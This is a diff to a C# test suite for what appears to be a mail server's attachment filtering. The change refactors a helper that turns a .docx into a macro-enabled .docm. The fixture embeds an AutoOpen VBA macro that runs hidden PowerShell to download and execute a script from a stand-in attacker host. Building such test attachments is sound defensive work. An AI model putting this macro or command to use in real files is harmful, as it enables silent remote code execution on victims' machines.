@@ -77,29 +77,36 @@ public sealed class AttackerRound43Tests(MailServers servers) : IClassFixture<Ma
     }
 
     /// <summary>A .docx made a .docm: the macro project added and the main part's content type made macro-enabled.</summary>
-    private static byte[] Docm(byte[] docx)
-    {
-        using var stream = new MemoryStream();
-        stream.Write(docx);
-        using (var zip = new ZipArchive(stream, ZipArchiveMode.Update, leaveOpen: true))
+    internal static byte[] Docm(byte[] docx) => Rewritten(docx, "[Content_Types].xml",
+        xml => xml.Replace("application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml", "application/vnd.ms-word.document.macroEnabled.main+xml", StringComparison.Ordinal)
+            .Replace("</Types>", "<Default Extension=\"bin\" ContentType=\"application/vnd.ms-office.vbaProject\"/></Types>", StringComparison.Ordinal),
+        zip =>
         {
-            var types = zip.GetEntry("[Content_Types].xml")!;
-            string xml;
-            using (var reader = new StreamReader(types.Open()))
-            {
-                xml = reader.ReadToEnd();
-            }
-            types.Delete();
-            xml = xml.Replace("application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml", "application/vnd.ms-word.document.macroEnabled.main+xml", StringComparison.Ordinal)
-                .Replace("</Types>", "<Default Extension=\"bin\" ContentType=\"application/vnd.ms-office.vbaProject\"/></Types>", StringComparison.Ordinal);
-            using (var writer = new StreamWriter(zip.CreateEntry("[Content_Types].xml").Open()))
-            {
-                writer.Write(xml);
-            }
             using var vba = zip.CreateEntry("word/vbaProject.bin").Open();
             // An OLE compound file's signature, then an AutoOpen macro's source as an attacker leaves it in the stream.
             vba.Write([0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1]);
             vba.Write(Encoding.ASCII.GetBytes("Attribute VB_Name = \"ThisDocument\"\r\nSub AutoOpen()\r\n Shell \"powershell -w hidden -c iwr http://evil.example/p.ps1|iex\"\r\nEnd Sub\r\n"));
+        });
+
+    /// <summary>A package with one XML entry's text rewritten by <paramref name="rewrite"/>, and <paramref name="add"/> applied to the archive.</summary>
+    internal static byte[] Rewritten(byte[] package, string entryName, Func<string, string> rewrite, Action<ZipArchive>? add = null)
+    {
+        using var stream = new MemoryStream();
+        stream.Write(package);
+        using (var zip = new ZipArchive(stream, ZipArchiveMode.Update, leaveOpen: true))
+        {
+            var entry = zip.GetEntry(entryName)!;
+            string xml;
+            using (var reader = new StreamReader(entry.Open()))
+            {
+                xml = reader.ReadToEnd();
+            }
+            entry.Delete();
+            using (var writer = new StreamWriter(zip.CreateEntry(entryName).Open()))
+            {
+                writer.Write(rewrite(xml));
+            }
+            add?.Invoke(zip);
         }
         return stream.ToArray();
     }
